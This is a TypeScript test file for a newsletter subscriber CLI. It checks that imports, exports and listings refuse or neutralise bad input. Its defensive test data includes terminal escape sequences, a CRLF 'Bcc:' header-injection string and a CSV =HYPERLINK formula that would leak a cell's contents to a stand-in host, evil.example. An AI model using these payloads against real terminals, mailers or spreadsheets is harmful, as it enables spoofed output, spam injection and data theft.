/**
 * What enters as a subscriber's address or name, through the real CLI on both backends: control
 * characters and oversized addresses are refused with their line, names follow one rule (as on
 * the sign-up form), export imports back exactly, and an import that fails part-way says which
 * lines are in and which are not.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { encodeWindows1252 } from '../helpers/encodings.ts';
import { postgresBackend, sqliteBackend, type StoreBackend } from '../helpers/store-backends.ts';
import { installSubscribers } from '../helpers/subscriber-install.ts';
import { makeTempDir } from '../helpers/temp-dir.ts';

const root = makeTempDir();

const install = (backend: StoreBackend) => installSubscribers(root, backend);

const ESCAPES = '\x1b[2J\x1b[H\x1b[31mALL SUBSCRIBERS DELETED\x1b[0m\x07';

describe.each([sqliteBackend, postgresBackend])('subscriber input on $name', (backend) => {
  it('refuses control characters and oversized addresses in import, naming each line; cleans names; export imports back', async () => {
    const { dir, cli } = await install(backend);
    const file = join(dir, 'list.csv');
    writeFileSync(
      file,
      [
        'email,name',
        'ann@example.org,Ann',
        'x\0y@example.org,Nul',
        'ctl\x07@example.org,Bell',
        `${'a'.repeat(65)}@example.org,Long local part`,
        `b@${'c'.repeat(250)}.org,Long address`,
        `esc@example.org,"${ESCAPES}"`,
        'crlf@example.org,"Carl\r\nBcc: x@evil.example"',
        `long@example.org,${'n'.repeat(150)}\u{1F600}${'m'.repeat(100)}`,
        'nul@example.org,a\0b',
      ].join('\n'),
    );
    const result = await cli('import', file, '--digest', 'daily');
    expect(result.stderr.split('\n').filter(Boolean)).toEqual([
      `${file}:3: not an email address: "x\\u0000y@example.org"; it holds a control or bidi character`,
      `${file}:4: not an email address: "ctl\\u0007@example.org"; it holds a control or bidi character`,
      expect.stringMatching(
        new RegExp(
          `^${file}:5: not an email address: "a{65}@example.org"; longer than RFC 5321 allows \\(64 bytes before the @, 254 in all\\)$`,
        ),
      ),
      expect.stringMatching(new RegExp(`^${file}:6: not an email address: "b@c{98}"; longer than RFC 5321 allows`)),
    ]);
    expect(result.stdout).toMatch(/: 5 added, 0 renamed, 0 unchanged; 4 lines left out/);
    expect(result.code).toBe(1);
    const exported = await cli('export', '--digest', 'daily');
    expect(exported.stdout.split('\r\n')).toEqual([
      'email,name',
      'ann@example.org,Ann',
      'crlf@example.org,Carl Bcc: x@evil.example',
      'esc@example.org,[2J[H[31mALL SUBSCRIBERS DELETED[0m',
      `long@example.org,${'n'.repeat(150)}\u{1F600}${'m'.repeat(49)}`,
      'nul@example.org,ab',
      '',
    ]);
    const out = join(dir, 'out.csv');
    writeFileSync(out, exported.stdout);
    expect(await cli('import', out, '--digest', 'weekly')).toMatchObject({ code: 0, stderr: '' });
    expect((await cli('export', '--digest', 'weekly')).stdout).toBe(exported.stdout);
    expect((await cli('import', out, '--digest', 'daily')).stdout).toMatch(/: 0 added, 0 renamed, 5 unchanged\n$/);
  });

  it('add: refuses a control character or an oversized address; --name follows the same rule as import', async () => {
    const { cli } = await install(backend);
    for (const address of ['ctl\x07@example.org', `${'a'.repeat(65)}@example.org`, 'Jo <jo\x1b@example.org>']) {
      const refused = await cli('add', address, '--digest', 'daily');
      expect(refused.code).toBe(2);
      expect(refused.stderr).toMatch(
        /subscribers add: not an email address: .*; (it holds a control or bidi character|longer than RFC 5321 allows)/,
      );
    }
    expect((await cli('add', 'jo@example.org', '--name', `  Jo\t\r\n${ESCAPES} `, '--digest', 'daily')).code).toBe(0);
    expect((await cli('add', 'long@example.org', '--name', 'x'.repeat(5000), '--digest', 'daily')).code).toBe(0);
    const listed = JSON.parse((await cli('list', '--json', '--digest', 'daily')).stdout) as Array<{ address: string; name: string }>;
    expect(listed.map((row) => [row.address, row.name])).toEqual([
      ['jo@example.org', 'Jo [2J[H[31mALL SUBSCRIBERS DELETED[0m'],
      ['long@example.org', 'x'.repeat(200)],
    ]);
  });

  it('an import the database stops part-way names the line it stopped at and what is in; a rerun finishes it', async () => {
    const { dir, cli, exec } = await install(backend);
    expect((await cli('list')).code).toBe(0); // creates the tables
    await exec(
      backend.name === 'sqlite'
        ? `CREATE TRIGGER boom BEFORE INSERT ON subscribers WHEN NEW.address = 'boom@example.org' BEGIN SELECT RAISE(ABORT, 'boom refused'); END`
        : `CREATE FUNCTION boom() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF NEW.address = 'boom@example.org' THEN RAISE EXCEPTION 'boom refused'; END IF; RETURN NEW; END $$`,
    );
    if (backend.name === 'postgres') await exec(`CREATE TRIGGER boom BEFORE INSERT ON subscribers FOR EACH ROW EXECUTE FUNCTION boom()`);
    const lines = ['email,name'];
    for (let index = 0; index < 12_000; index++) lines.push(index === 7_000 ? 'boom@example.org,Boom' : `r${index}@example.org,R ${index}`);
    const file = join(dir, 'big.csv');
    writeFileSync(file, lines.join('\n'));
    const failed = await cli('import', file, '--digest', 'daily');
    expect(failed.code).toBe(1);
    expect(failed.stderr).toMatch(
      new RegExp(
        `^columnwire: subscribers import: ${file}:5002: stopped at this line's batch of 5000: .*boom refused.*; the lines before it are imported \\(5000 subscribers\\), this line and the rest are not\\. Run the same import again once the database is fixed\\n$`,
      ),
    );
    await exec('DROP TRIGGER boom' + (backend.name === 'postgres' ? ' ON subscribers' : ''));
    expect((await cli('import', file, '--digest', 'daily')).stdout).toMatch(/: 7000 added, 0 renamed, 5000 unchanged\n$/);
    expect(readFileSync(file, 'utf8').split('\n')).toHaveLength(12_001);
  });

  it('list --pending prints control characters escaped, never raw to the terminal', async () => {
    const { cli, open } = await install(backend);
    expect((await cli('list')).code).toBe(0); // creates the tables
    const store = await open();
    // Kept before names were cleaned on the way in: a table still shows them harmlessly.
    const requestedAt = new Date();
    await store.saveSignup({
      digestId: 'daily',
      address: 'evil@example.org',
      name: ESCAPES,
      choices: { columnists: [], outlets: [], tags: [] },
      requestedAt,
    });
    const pending = await cli('list', '--pending');
    expect(pending.code).toBe(0);
    expect([...pending.stdout].filter((ch) => ch !== '\n' && /\p{Cc}/u.test(ch))).toEqual([]);
    expect(pending.stdout).toContain('\\x1b[2J\\x1b[H\\x1b[31mALL SUBSCRIBERS DELETED\\x1b[0m\\x07');
  });

  it('export and list --csv write would-be formulas after a quote, and that export imports back exactly', async () => {
    const { dir, cli, open } = await install(backend);
    expect((await cli('list')).code).toBe(0);
    const store = await open();
    await store.addSubscribers(
      'daily',
      [
        { address: '=1+2@example.org', name: '=HYPERLINK("http://evil.example/?x="&A1;"click")' },
        { address: 'plus@example.org', name: '+1+2' },
        { address: 'quote@example.org', name: "'=quoted already" },
      ],
      new Date(),
    );
    const exported = await cli('export', '--digest', 'daily');
    expect(exported.stdout).toBe(
      'email,name\r\n' +
        `'=1+2@example.org,"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"\r\n` +
        "plus@example.org,'+1+2\r\n" +
        "quote@example.org,''=quoted already\r\n",
    );
    expect((await cli('list', '--csv', '--digest', 'daily')).stdout).toContain("'=1+2@example.org,daily,subscriber,\"'=HYPERLINK(");
    const out = join(dir, 'out.csv');
    writeFileSync(out, exported.stdout);
    expect(await cli('import', out, '--digest', 'weekly')).toMatchObject({ code: 0, stderr: '' });
    const names = async (digestId: string) =>
      (await store.listSubscribers(digestId, { limit: 10 })).map((subscriber) => [subscriber.address, subscriber.name]);
    expect(await names('weekly')).toEqual(await names('daily'));
  });

  it('import: refuses a windows-1252 file naming its line and the way out, reads it with --encoding, and reads UTF-16 with a BOM', async () => {
    const { dir, cli } = await install(backend);
    const text = 'email,name\r\nann@example.org,Ann\r\nm@example.org,Müller René\r\n';
    const cp1252 = join(dir, 'excel.csv');
    writeFileSync(cp1252, encodeWindows1252(text));
    const refused = await cli('import', cp1252, '--digest', 'daily');
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(
      new RegExp(`^columnwire: subscribers import: ${cp1252}:3: not UTF-8 text; save it as "CSV UTF-8 .*--encoding`),
    );
    expect((await cli('list', '--json')).stdout).toBe('[]\n'); // nothing imported
    expect((await cli('import', cp1252, '--digest', 'daily', '--encoding', 'windows-1252')).code).toBe(0);
    const unicode = join(dir, 'unicode.csv');
    writeFileSync(unicode, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
    expect(await cli('import', unicode, '--digest', 'weekly')).toMatchObject({ code: 0, stderr: '' });
    const listed = JSON.parse((await cli('list', '--json')).stdout) as Array<{ address: string; digest: string; name: string }>;
    expect(listed.map((row) => [row.digest, row.address, row.name])).toEqual([
      ['daily', 'ann@example.org', 'Ann'],
      ['daily', 'm@example.org', 'Müller René'],
      ['weekly', 'ann@example.org', 'Ann'],
      ['weekly', 'm@example.org', 'Müller René'],
    ]);
    expect((await cli('import', unicode, '--digest', 'weekly', '--encoding', 'nonsense')).stderr).toMatch(
      /--encoding nonsense: not an encoding/,
    );
  });

  it('remove and clear-bounce take "Name <address>" as add does', async () => {
    const { cli } = await install(backend);
    expect((await cli('add', 'Jane Doe <Jane@Example.org>', '--digest', 'daily')).code).toBe(0);
    expect(await cli('remove', 'Jane Doe <jane@example.org>')).toMatchObject({
      code: 0,
      stdout: 'jane@example.org: removed from 1 digest\n',
    });
    expect(await cli('remove', '"Doe, Jane" <JANE@example.org>')).toMatchObject({
      code: 1,
      stdout: 'jane@example.org: not a subscriber\n',
    });
    expect((await cli('clear-bounce', 'Jane Doe <jane@example.org>')).stdout).toBe('jane@example.org: no bounces recorded\n');
  });

  it('list --pending leaves out signups whose link expired, and counts them', async () => {
    const { cli, open } = await install(backend);
    expect((await cli('list')).code).toBe(0);
    const store = await open();
    const choices = { columnists: [], outlets: [], tags: [] };
    const now = Date.now();
    await store.saveSignup({
      digestId: 'daily',
      address: 'old@example.org',
      name: null,
      choices,
      requestedAt: new Date(now - 5 * 24 * 3600_000),
    });
    await store.saveSignup({ digestId: 'daily', address: 'new@example.org', name: 'New', choices, requestedAt: new Date(now - 3600_000) });
    const pending = await cli('list', '--pending', '--json');
    expect(pending.code).toBe(0);
    expect((JSON.parse(pending.stdout) as Array<{ address: string }>).map((row) => row.address)).toEqual(['new@example.org']);
    expect(pending.stderr).toBe(
      'subscribers: 1 signup not shown: its link expired (48 hours); forgotten a day later, at the next signup\n',
    );
  });
});
